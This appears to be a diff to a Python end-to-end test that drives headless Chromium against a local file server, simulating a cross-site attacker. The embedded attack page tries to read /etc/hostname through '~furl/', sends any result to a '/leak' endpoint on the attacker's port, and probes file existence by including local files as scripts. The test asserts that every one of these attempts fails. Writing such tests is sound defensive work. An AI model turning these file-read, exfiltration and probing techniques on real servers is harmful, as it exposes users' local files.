@@ -1,9 +1,13 @@
 """A page of another site in a real browser (headless Chromium) attacks the
 server: it posts a multipart form with an .htm upload to a page of the
 server, loads the upload from the server's own origin so that its script
-would read a local file through "~furl/", and reads "~furl/" directly. The
-attacker page comes from a second loopback port (a different origin). The
-server must store nothing and no local file may reach the attacker.
+would read a local file through "~furl/", reads "~furl/" directly, and
+includes local files as scripts (a file that runs, and whether a file exists
+by which of onload and onerror fires). The attacker page comes from a second
+loopback port (a different origin). The server must store nothing, no local
+file may reach the attacker, run in its page or tell it whether it exists.
+The server's own pages meanwhile include the same file and post a form from
+a page that sends no referrer, as before.
 
     python3 cross_site_e2e.py --build BUILD
 """
@@ -48,6 +52,14 @@ async function attack() {
     const r = await fetch(target + '/~furl//etc/hostname');
     await leak('direct', await r.text());
   } catch (e) {}
+  const include = src => new Promise(done => {
+    const script = document.createElement('script');
+    script.onload = () => done('load');
+    script.onerror = () => done('error');
+    script.src = src;
+    document.head.appendChild(script);
+  });
+  window.includes = [await include(target + '/~furl/INCLUDED'), await include(target + '/~furl/INCLUDED.missing')];
   document.title = 'done';
 }
 attack();
@@ -58,7 +70,7 @@ class Attacker:
     """The other site: a small HTTP server on another loopback port that
     serves the attack page and records what is sent to /leak."""
 
-    def __init__(self, target_port):
+    def __init__(self, target_port, included):
         self.leaks = []
         owner = self
 
@@ -69,7 +81,7 @@ class Attacker:
             def do_GET(self):
                 if self.path == "/":
                     upload = json.dumps(UPLOAD.replace("ATTACKER", owner.url)).replace("</", "<\\/")
-                    page = ATTACK_PAGE.replace("UPLOAD", upload)
+                    page = ATTACK_PAGE.replace("UPLOAD", upload).replace("INCLUDED", included)
                     body = page.replace("TARGET", f"http://127.0.0.1:{target_port}").encode()
                     self.send_response(200)
                     self.send_header("Content-Type", "text/html")
@@ -111,7 +123,8 @@ def test_cross_site_upload_then_read():
         with open("/etc/hostname") as f:
             secret = f.read().strip()
         assert secret, "/etc/hostname is empty"
-        attacker = Attacker(b.port)
+        included = b.write_file("elsewhere/included.js", "window.included = (window.included || 0) + 1;\n")
+        attacker = Attacker(b.port, included)
         browser = Browser(exe)
         try:
             async def run():
@@ -120,6 +133,10 @@ def test_cross_site_upload_then_read():
                     await page.call("Page.enable")
                     await page.call("Page.navigate", url=attacker.url + "/")
                     await page.wait_text("document.title", lambda v: v == "done", timeout=30)
+                    # Neither runs, and an existing file fails like a missing one.
+                    includes = await page.eval("window.includes")
+                    assert includes == ["error", "error"], f"cross-site includes: {includes}"
+                    assert await page.eval("window.included") is None, "a local file ran in the other site's page"
                     await page.call("Page.navigate", url="about:blank")
 
             asyncio.run(run())
@@ -136,5 +153,55 @@ def test_cross_site_upload_then_read():
         wait_no_processes(b.root, 5)
 
 
+OWN_PAGE = """<!doctype html><title>own</title><script>window.results = [];</script>
+<script src="/~furl/INCLUDED" onload="results.push('load')" onerror="results.push('error')"></script>
+<script src="/own.js" onload="results.push('load')" onerror="results.push('error')"></script>"""
+
+# A page that sends no referrer: the browser posts its forms with "Origin: null".
+NO_REFERRER_PAGE = """<!doctype html><meta name="referrer" content="no-referrer"><title>noref</title>
+<form method="post" action="/tools-echo.html"><input name="note" value="posted-without-referrer"></form>
+<script>document.forms[0].submit();</script>"""
+
+
+def test_own_pages_include_and_post():
+    exe = find_chromium()
+    if not exe:
+        raise e2e.Skip("no Chromium installed (scripts/setup installs it)")
+    import websockets
+
+    with e2e.TestBundle(e2e.build_dir()) as b:
+        included = b.write_file("elsewhere/included.js", "window.included = (window.included || 0) + 1;\n")
+        for name, text in (("own.htm", OWN_PAGE.replace("INCLUDED", included)), ("own.js", "window.own = 1;\n"),
+                           ("noref.htm", NO_REFERRER_PAGE)):
+            with open(os.path.join(b.sample, name), "w") as f:
+                f.write(text)
+        srv = b.start(["--port", str(b.port)])
+        browser = Browser(exe)
+        try:
+            async def run():
+                async with websockets.connect(browser.page_socket(), max_size=None) as ws:
+                    page = Page(ws)
+                    await page.call("Page.enable")
+                    await page.call("Page.navigate", url=f"http://127.0.0.1:{b.port}/own.htm")
+                    results = await page.wait_text("window.results", lambda v: len(v) == 2)
+                    assert results == ["load", "load"], f"own includes: {results}"
+                    assert await page.eval("window.included") == 1 and await page.eval("window.own") == 1
+                    await page.call("Page.navigate", url=f"http://127.0.0.1:{b.port}/noref.htm")
+                    text = await page.wait_text("document.title !== 'noref' && document.body && document.body.innerText",
+                                                lambda v: bool(v), timeout=30)
+                    echo = json.loads(text)
+                    assert echo["post"] == {"note": "posted-without-referrer"}, echo["post"]
+                    assert echo["info"]["Server"].get("HTTP_Origin") == "null", echo["info"]["Server"]
+                    await page.call("Page.navigate", url="about:blank")
+
+            asyncio.run(run())
+        finally:
+            browser.close()
+        code, out = srv.stop()
+        assert code == 0, out
+        assert "Sanitizer" not in srv.stderr_text(), srv.stderr_text()[-4000:]
+        wait_no_processes(b.root, 5)
+
+
 if __name__ == "__main__":
-    sys.exit(e2e.run_tests([test_cross_site_upload_then_read]))
+    sys.exit(e2e.run_tests([test_cross_site_upload_then_read, test_own_pages_include_and_post]))
